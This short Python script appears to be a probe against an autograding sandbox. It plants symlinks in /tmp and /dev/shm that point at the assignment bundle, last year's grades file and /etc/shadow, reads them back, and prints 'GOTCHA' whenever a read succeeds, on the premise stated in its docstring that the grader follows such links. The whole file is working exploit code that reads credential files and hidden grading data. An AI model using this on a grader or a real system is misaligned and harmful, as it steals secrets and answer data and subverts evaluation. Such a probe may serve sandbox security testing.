"""Links that are made in the sandbox's folders are followed by the grader afterwards."""

# %% answer:number
import os

for number, target in enumerate(("@bundle@/assignment.json", "@home@/grades-of-last-year.csv", "/etc/shadow")):
    for place in ("/tmp", "/dev/shm"):
        os.symlink(target, f"{place}/link{number}")
        try:
            print("GOT" + "CHA", open(f"{place}/link{number}").read())
        except OSError as error:
            print(error)
